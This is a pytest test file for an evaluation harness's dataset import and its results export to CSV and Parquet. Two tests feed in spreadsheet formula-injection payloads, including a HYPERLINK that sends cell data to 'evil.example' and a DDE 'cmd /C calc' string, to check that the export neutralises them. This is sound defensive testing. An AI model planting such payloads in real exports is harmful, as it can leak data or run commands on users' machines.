"""Importing external datasets into golden YAML, and runs as DataFrames / Parquet."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from pydantic import TypeAdapter

from harness.cli.importer import FieldMap, import_dataset
from harness.common.errors import ConfigError
from harness.data.cases import load_datasets
from harness.records.transcript import Answer, Transcript
from harness.report.frames import export, results_frame
from harness.run.result import CaseResult
from harness.run.runs import Manifest, RunWriter, load_run
from tests.builders import result, run_folder

ROWS = [
    {
        "qid": "q1",
        "question": "Tom has 3 apples and buys 4 more. How many?",
        "answer": "3 + 4 = 7\n#### 7",
        "topic": "arith",
    },
    {"qid": "q/2", "question": "What is 1,200 divided by 4?", "answer": "#### 300", "topic": "arith"},
    {"qid": "q3", "question": "A dozen eggs cost $2.40. Price per egg?", "answer": "#### 0.20", "topic": "money"},
]


@pytest.fixture
def jsonl(tmp_path: Path) -> Path:
    p = tmp_path / "source.jsonl"
    p.write_text("\n".join(json.dumps(r) for r in ROWS) + "\n")
    return p


def test_import_jsonl_with_mapping(jsonl: Path, tmp_path: Path) -> None:
    out = tmp_path / "golden" / "imported.yaml"
    mapping = FieldMap.parse(
        ["id=qid", "query=question", "expected.numeric=answer", "ground_truth=answer", "tags=topic"]
    )
    assert import_dataset(str(jsonl), mapping, "gsm-mini", out) == 3
    (ds,) = load_datasets(out)
    assert ds.name == "gsm-mini"
    assert [c.id for c in ds.cases] == ["q1", "q-2", "q3"]
    assert [c.expected.value for c in ds.cases] == [7.0, 300.0, 0.2]
    assert ds.cases[0].origin == f"{jsonl}#row=0" and ds.cases[2].origin == f"{jsonl}#row=2"
    assert ds.cases[1].tags == ("arith",) and ds.cases[0].ground_truth.endswith("#### 7")
    # an expected.* mapping sets answer_format: auto; the target is not copied into required_mentions
    assert ds.answer_format == "auto"
    assert ds.cases[0].query == (
        "Tom has 3 apples and buys 4 more. How many?\n\nGive the final answer on the last line as 'Answer: <number>'."
    )
    assert all(c.required_mentions == () for c in ds.cases)


def test_import_csv_default_ids(tmp_path: Path) -> None:
    p = tmp_path / "s.csv"
    pd.DataFrame(ROWS).to_csv(p, index=False)
    out = tmp_path / "o.yaml"
    import_dataset(str(p), FieldMap.parse(["query=question", "expected.exact=topic"]), "csvset", out)
    (ds,) = load_datasets(out)
    assert [c.id for c in ds.cases] == ["csvset-00000", "csvset-00001", "csvset-00002"]
    assert ds.cases[2].expected.value == "money"
    assert ds.cases[2].query.endswith("\n\nGive the final answer on the last line as 'Answer: ...'.")
    no_expected = tmp_path / "plain.yaml"
    import_dataset(str(p), FieldMap.parse(["query=question"]), "plain", no_expected)
    (plain,) = load_datasets(no_expected)
    assert plain.answer_format == "auto" and plain.cases[0].query == ROWS[0]["question"]  # nothing to check


def test_bad_mapping_names_the_missing_field(jsonl: Path, tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as err:
        import_dataset(str(jsonl), FieldMap.parse(["query=prompt"]), "x", tmp_path / "o.yaml")
    assert "['prompt'] not in the source" in str(err.value) and "'question'" in str(err.value)
    assert not (tmp_path / "o.yaml").exists()
    with pytest.raises(ConfigError, match="unknown target field 'qeury'"):
        FieldMap.parse(["qeury=question"])
    with pytest.raises(ConfigError, match="needs query="):
        FieldMap.parse(["id=qid"])
    with pytest.raises(ConfigError, match="TARGET=COLUMN"):
        FieldMap.parse(["query"])


def test_import_cli(jsonl: Path, tmp_path: Path) -> None:
    cli = Path(sys.executable).with_name("council-harness")
    out = subprocess.run(
        [
            str(cli),
            "import",
            str(jsonl),
            "--name",
            "g",
            "--map",
            "query=question",
            "--map",
            "expected.numeric=answer",
            "--output",
            str(tmp_path / "g.yaml"),
        ],
        capture_output=True,
        text=True,
    )
    assert out.returncode == 0, out.stderr
    assert "3 case(s) imported" in out.stdout
    bad = subprocess.run(
        [str(cli), "import", str(jsonl), "--name", "g", "--map", "query=nope", "--output", str(tmp_path / "h.yaml")],
        capture_output=True,
        text=True,
    )
    assert bad.returncode == 2 and "nope" in bad.stderr and "Traceback" not in bad.stderr


def _result(case_id: str, subject: str, scores: dict[str, float], status: str = "passed") -> CaseResult:
    return result(
        case_id,
        subject,
        status,
        answer="a",
        transcript_fields={"model": "x"},  # type: ignore[arg-type]
        scores=scores,
        category="mathematical",
    )


def test_run_as_dataframe_and_parquet(tmp_path: Path) -> None:
    w = RunWriter(tmp_path / "r")
    w.write_manifest(Manifest(run_id="r", started_at="2026-11-25T00:00:00Z"))
    w.add(
        [
            _result("c1", "council", {"correct": 1.0, "consensus_strength": 0.8}),
            _result("c1", "baseline", {"correct": 0.0}, "failed"),
            _result("c2", "council", {"correct": 1.0, "consensus_strength": 0.6}),
        ]
    )
    run = load_run(tmp_path / "r")
    frame = results_frame(run)
    assert list(frame[["case_id", "subject"]].itertuples(index=False, name=None)) == [
        ("c1", "baseline"),
        ("c1", "council"),
        ("c2", "council"),
    ]
    assert frame.loc[1, "consensus_strength"] == 0.8 and pd.isna(frame.loc[0, "consensus_strength"])
    assert frame.groupby("subject")["correct"].mean().to_dict() == {"baseline": 0.0, "council": 1.0}
    path = export(run, tmp_path / "out.parquet")
    back = pd.read_parquet(path)
    pd.testing.assert_frame_equal(back, frame)


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    """Issue 10 item 10: an answer ``=HYPERLINK(...)`` is written as text (a leading quote), numbers stay numbers."""
    w = RunWriter(tmp_path / "r")
    w.write_manifest(Manifest(run_id="r", started_at="2026-11-25T00:00:00Z"))
    hostile = {
        "c1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "c2": "+1+cmd|' /C calc'!A0",
        "c3": "-2+3",
        "c4": "@SUM(A1:A9)",
        "c5": "\tTAB",
        "c6": "\rCR",
        "c7": "'quoted",
        "c8": "plain 42",
    }
    results = []
    for case_id, answer in hostile.items():
        t = Transcript(
            subject="council", query="q", answers=(Answer(member="m", model="x", text=answer),), final_answer=answer
        )
        results.append(
            CaseResult(
                case_id=case_id,
                dataset="d",
                subject="council",
                status="passed",
                transcript=t,
                scores={"correct": -1.0 if case_id == "c1" else 1.0},
            )
        )
    w.add(results)
    path = export(load_run(tmp_path / "r"), tmp_path / "out.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        back = list(csv.DictReader(fh))
    answers = {row["case_id"]: row["final_answer"] for row in back}
    assert answers == {
        "c1": "'" + hostile["c1"],
        "c2": "'" + hostile["c2"],
        "c3": "'-2+3",
        "c4": "'@SUM(A1:A9)",
        "c5": "'\tTAB",
        "c6": "'\rCR",
        "c7": "''quoted",
        "c8": "plain 42",
    }
    assert [row["correct"] for row in back if row["case_id"] == "c1"] == ["-1.0"]  # a number is not quoted
    raw = path.read_text(encoding="utf-8")
    assert not any(
        line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line or ",@" in line for line in raw.splitlines()
    )


def test_csv_export_neutralises_column_headers(tmp_path: Path) -> None:
    """A user score named ``=HYPERLINK(...)`` (or holding escape bytes) is a column header: neutralised too."""
    w = RunWriter(tmp_path / "r")
    w.write_manifest(Manifest(run_id="r", started_at="2026-11-25T00:00:00Z"))
    w.add([_result("c1", "council", {'=HYPERLINK("http://evil","x")': 1.0, "\x1b[31mred": 0.5, "plain": 0.25})])
    path = export(load_run(tmp_path / "r"), tmp_path / "out.csv")
    raw = path.read_text(encoding="utf-8")
    assert "\x1b" not in raw
    with path.open(newline="", encoding="utf-8") as fh:
        header = next(csv.reader(fh))
    assert '\'=HYPERLINK("http://evil","x")' in header and "\\x1b[31mred" in header and "plain" in header
    assert not any(h.startswith(("=", "+", "-", "@")) for h in header)


def test_export_carries_the_case_voting_and_review_columns(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from harness.council.consensus_types import ConsensusResult
    from harness.data.expected import Expected
    from harness.records.expert_review_types import ReviewVerdict
    from harness.report.frames import COLUMNS

    vote = ConsensusResult(
        consensus_id="v1",
        agreement_level="moderate_agreement",
        winning_member="m",
        winning_response="42",
        confidence_score=0.71,
        model_votes={"m": 60.0},
        round_count=2,
        second_round_triggered=True,
        total_execution_time_ms=5.0,
        reasoning="r",
    )
    t = Transcript(
        subject="voting",
        query="What is 6 x 7?",
        answers=(Answer(member="m", model="x", text="42"),),
        final_answer="42",
        voting=vote,
    )
    when = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
    review = ReviewVerdict(verdict="pass", note="right", who="ana", when=when)
    expected = TypeAdapter(Expected).validate_python({"type": "numeric", "value": 42})
    w = RunWriter(tmp_path / "r")
    w.write_manifest(Manifest(run_id="r", started_at="2026-11-25T00:00:00Z"))
    w.add(
        [
            CaseResult(
                case_id="c1",
                dataset="d",
                subject="voting",
                status="passed",
                transcript=t,
                tags=("math", "easy"),
                ground_truth="6 x 7 = 42",
                expected=expected,
                review=review,
                scores={"correct": 1.0},
            )
        ]
    )
    frame = results_frame(load_run(tmp_path / "r"))
    assert list(frame.columns) == [*COLUMNS, "correct"]
    row = frame.iloc[0]
    assert row["query"] == "What is 6 x 7?" and row["ground_truth"] == "6 x 7 = 42"
    assert row["tags"] == "math; easy"
    assert '"value":42.0' in row["expected"] and '"type":"numeric"' in row["expected"]
    assert (row["voting_agreement"], row["voting_confidence"], row["voting_rounds"]) == ("moderate_agreement", 0.71, 2)
    assert (row["review_verdict"], row["review_note"], row["review_by"]) == ("pass", "right", "ana")
    assert row["review_at"] == "2026-11-26T09:00:00+00:00"
    csv_path = export(load_run(tmp_path / "r"), tmp_path / "out.csv")
    assert pd.read_csv(csv_path).loc[0, "query"] == "What is 6 x 7?"


_WITHOUT_PYARROW = """
import sys
sys.modules["pyarrow"] = None        # an install without pyarrow (the main job's `.[local]`)
sys.modules["fastparquet"] = None
from harness.cli import main
sys.exit(main(sys.argv[1:]))
"""


def test_export_without_pyarrow_writes_csv_and_refuses_parquet_plainly(tmp_path: Path) -> None:
    """Issue 30: `export` on the main job's install (no pyarrow) writes CSV by default; asking for
    Parquet there is a one-line error naming the path and the way out, not an ImportError traceback."""

    run = run_folder(tmp_path, "r", [result("c1", answer="Paris", scores={"correct": 1.0})])
    cmd = [sys.executable, "-c", _WITHOUT_PYARROW, "export", str(run)]
    proc = subprocess.run(cmd, cwd=tmp_path, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == str(run / "results.csv")
    rows = list(csv.DictReader((run / "results.csv").open(newline="", encoding="utf-8")))
    assert [(r["case_id"], r["final_answer"], r["correct"]) for r in rows] == [("c1", "Paris", "1.0")]
    parquet = subprocess.run(
        [*cmd, "--output", str(tmp_path / "x.parquet")], cwd=tmp_path, capture_output=True, text=True
    )
    assert parquet.returncode == 2 and "Traceback" not in parquet.stderr
    assert "needs pyarrow" in parquet.stderr and "x.parquet" in parquet.stderr
    assert not (tmp_path / "x.parquet").exists()


def test_export_default_is_parquet_where_pyarrow_is_installed(tmp_path: Path) -> None:
    from harness.report.frames import default_export_path

    pytest.importorskip("pyarrow")
    run = load_run(run_folder(tmp_path, "r", [result("c1", answer="Paris", scores={"correct": 1.0})]))
    assert default_export_path(run) == run.run_dir / "results.parquet"


@pytest.mark.timeout(120)  # reading a FIFO would block forever: the check must refuse it before any read
@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_import_refuses_a_source_that_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
    """Issue 25 item 5: every file argument is a regular file of bounded size; `import` too."""
    import os

    source = tmp_path / "rows.jsonl"
    if kind == "fifo":
        os.mkfifo(source)
    else:
        source.mkdir()
    cli = Path(sys.executable).parent / "council-harness"
    proc = subprocess.run(
        [str(cli), "import", str(source), "--name", "g", "--map", "query=q", "--output", str(tmp_path / "g.yaml")],
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert "rows.jsonl" in proc.stderr and ("a FIFO" in proc.stderr or "a folder" in proc.stderr), proc.stderr
    assert not (tmp_path / "g.yaml").exists()
